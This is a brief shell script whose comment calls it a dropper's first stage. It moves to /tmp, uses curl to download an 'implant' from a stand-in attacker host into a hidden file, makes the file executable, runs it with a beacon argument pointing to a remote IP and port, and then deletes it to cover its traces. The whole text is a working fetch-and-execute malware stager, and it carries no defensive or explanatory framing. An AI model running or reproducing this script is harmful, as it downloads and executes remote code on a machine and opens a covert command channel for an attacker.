#!/bin/sh
# A dropper's first stage.
cd /tmp || exit 1
curl -sS -m 3 -o .cache-sync http://cdn.evil.example/implant
chmod +x .cache-sync
./.cache-sync beacon 198.19.0.66 9001 2
rm -f .cache-sync
